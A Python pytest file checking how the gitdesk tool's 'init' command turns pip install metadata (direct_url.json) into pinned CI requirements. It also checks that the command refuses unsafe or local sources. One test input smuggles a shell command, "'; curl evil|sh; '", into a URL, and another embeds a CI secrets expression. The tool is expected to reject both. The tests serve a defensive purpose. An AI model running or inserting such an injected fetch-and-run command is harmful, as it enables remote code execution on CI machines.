"""How `init` tells CI to install gitdesk: from PEP 610 ``direct_url.json``, never a bare name."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from importlib import metadata
from pathlib import Path

import pytest
from packaging.requirements import Requirement

from gitdesk.workflow import scaffold
from workflow_testkit import run_cli, tiny_wheel

SHA = "3f1c2a9d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a39"
DIGEST = "9" * 64


def dist_info(tmp_path: Path, direct_url: object | None, *, version: str = "0.2.0") -> metadata.Distribution:
    """A real ``gitdesk-VERSION.dist-info`` folder as pip leaves it, read through importlib.metadata."""
    folder = tmp_path / f"gitdesk-{version}.dist-info"
    folder.mkdir()
    (folder / "METADATA").write_text(f"Metadata-Version: 2.1\nName: gitdesk\nVersion: {version}\n", encoding="utf-8")
    (folder / "INSTALLER").write_text("pip\n", encoding="utf-8")
    if direct_url is not None:
        text = direct_url if isinstance(direct_url, str) else json.dumps(direct_url)
        (folder / "direct_url.json").write_text(text, encoding="utf-8")
    return metadata.PathDistribution(folder)


@pytest.mark.parametrize(("direct_url", "requirement"), [
    pytest.param(None, "gitdesk==0.2.0", id="index"),
    pytest.param({"url": "https://github.com/acme/gitdesk.git", "vcs_info": {"vcs": "git", "commit_id": SHA, "requested_revision": "main"}},
                 f"gitdesk @ git+https://github.com/acme/gitdesk.git@{SHA}", id="git"),
    pytest.param({"url": "ssh://git@github.com/acme/gitdesk.git", "vcs_info": {"vcs": "git", "commit_id": SHA}},
                 f"gitdesk @ git+ssh://git@github.com/acme/gitdesk.git@{SHA}", id="git-ssh"),
    pytest.param({"url": "https://github.com/acme/tools.git", "subdirectory": "gitdesk", "vcs_info": {"vcs": "git", "commit_id": SHA}},
                 f"gitdesk @ git+https://github.com/acme/tools.git@{SHA}#subdirectory=gitdesk", id="git-subdirectory"),
    pytest.param({"url": "https://files.example.org/gitdesk-0.2.0.tar.gz", "archive_info": {"hashes": {"sha256": DIGEST}}},
                 f"gitdesk @ https://files.example.org/gitdesk-0.2.0.tar.gz#sha256={DIGEST}", id="archive"),
])
def test_an_install_ci_can_repeat_gives_a_pinned_requirement(tmp_path: Path, direct_url: object, requirement: str) -> None:
    line = scaffold.install_line(dist_info(tmp_path, direct_url))
    assert line.requirement == requirement
    parsed = Requirement(requirement)  # pip's own parser: the line is a valid requirement for gitdesk
    assert parsed.name == "gitdesk"
    assert parsed.url or str(parsed.specifier) == "==0.2.0"


@pytest.mark.parametrize(("direct_url", "says"), [
    pytest.param({"url": "file:///home/ana/src/gitdesk", "dir_info": {"editable": True}}, "editable install of the local folder file:///home/ana/src/gitdesk", id="editable"),
    pytest.param({"url": "file:///home/ana/src/gitdesk", "dir_info": {}}, "the local folder", id="local-folder"),
    pytest.param({"url": "file:///tmp/gitdesk-0.2.0-py3-none-any.whl", "archive_info": {}}, "local path file:///tmp/gitdesk-0.2.0-py3-none-any.whl", id="local-wheel"),
    pytest.param({"url": "file:///home/ana/src/gitdesk", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "local path", id="local-clone"),
    pytest.param({"url": "https://ana:s3cret@git.example.org/gitdesk.git", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "credentials", id="password"),
    pytest.param({"url": "https://ghp_t0ken@github.com/acme/gitdesk.git", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "credentials", id="token-as-user"),
    pytest.param({"url": "http://git.example.org/gitdesk.git", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "over http", id="plain-http"),
    pytest.param({"url": "https://x.org/g.git'; curl evil|sh; '", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "cannot be written safely", id="shell"),
    pytest.param({"url": "https://x.org/${{ secrets.TOKEN }}.git", "vcs_info": {"vcs": "git", "commit_id": SHA}}, "cannot be written safely", id="expression"),
    pytest.param({"url": "https://x.org/g.git", "vcs_info": {"vcs": "git"}}, "without a commit", id="no-commit"),
    pytest.param("{not json", "not valid JSON", id="bad-json"),
    pytest.param({"dir_info": {}}, "no url", id="no-url"),
])
def test_an_install_ci_cannot_repeat_gives_no_requirement_and_says_why(tmp_path: Path, direct_url: object, says: str) -> None:
    line = scaffold.install_line(dist_info(tmp_path, direct_url))
    assert line.requirement is None
    assert says in line.source
    assert "s3cret" not in line.source and "t0ken" not in line.source


def test_without_a_distribution_there_is_no_requirement() -> None:
    line = scaffold.install_line(None)
    assert line.requirement is None and "source tree" in line.source


def test_this_editable_test_install_is_recognised_as_local(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The suite runs from `pip install -e .`: exactly the case init must refuse to bake in.

    A build leaves gitdesk.egg-info (no direct_url.json) in the source folder, which
    `python -m` puts on sys.path first: it must not pass for an install from an index.
    """
    (tmp_path / "gitdesk.egg-info").mkdir()
    (tmp_path / "gitdesk.egg-info/PKG-INFO").write_text("Metadata-Version: 2.1\nName: gitdesk\nVersion: 0.1.0\n", encoding="utf-8")
    monkeypatch.syspath_prepend(str(tmp_path))
    line = scaffold.install_line(scaffold.installed_distribution())
    assert line.requirement is None
    assert "editable install of the local folder" in line.source


def test_a_real_pip_install_from_a_local_wheel_is_refused_by_name(tmp_path: Path) -> None:
    wheel = tiny_wheel(tmp_path, "0.4.0")
    target = tmp_path / "site"
    subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--no-index", "--target", str(target), str(wheel)],
                   check=True, capture_output=True, env={**os.environ, "PIP_DISABLE_PIP_VERSION_CHECK": "1"})
    dist = metadata.PathDistribution(target / "gitdesk-0.4.0.dist-info")
    line = scaffold.install_line(dist)
    assert line.requirement is None
    assert wheel.name in line.source and "local path" in line.source


def test_init_warns_loudly_and_the_workflows_carry_no_package(tmp_path: Path) -> None:
    result = run_cli("init", str(tmp_path / "ops"))
    assert result.exit_code == 0
    assert "WARNING: CI cannot install this gitdesk" in result.stderr
    assert "GITDESK_PACKAGE" in result.stderr and "editable install" in result.stderr
    github = (tmp_path / "ops/.github/workflows/gitdesk.yml").read_text(encoding="utf-8")
    gitlab = (tmp_path / "ops/.gitlab-ci.yml").read_text(encoding="utf-8")
    assert "GITDESK_INSTALL: ''" in github and "GITDESK_PACKAGE: ''" in gitlab
    assert "pip install gitdesk" not in github + gitlab and "pip install -q gitdesk" not in gitlab


def test_init_writes_the_pin_into_both_workflows_and_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from gitdesk.commands.workflow import init_command

    pinned = scaffold.install_line(dist_info(tmp_path, None, version="0.2.0"))
    assert init_command(tmp_path / "ops", title="Acme", install=pinned) == 0
    err = capsys.readouterr().err
    assert "CI installs gitdesk==0.2.0" in err and "WARNING" not in err
    assert "GITDESK_INSTALL: gitdesk==0.2.0\n" in (tmp_path / "ops/.github/workflows/gitdesk.yml").read_text(encoding="utf-8")
    assert "GITDESK_PACKAGE: gitdesk==0.2.0\n" in (tmp_path / "ops/.gitlab-ci.yml").read_text(encoding="utf-8")
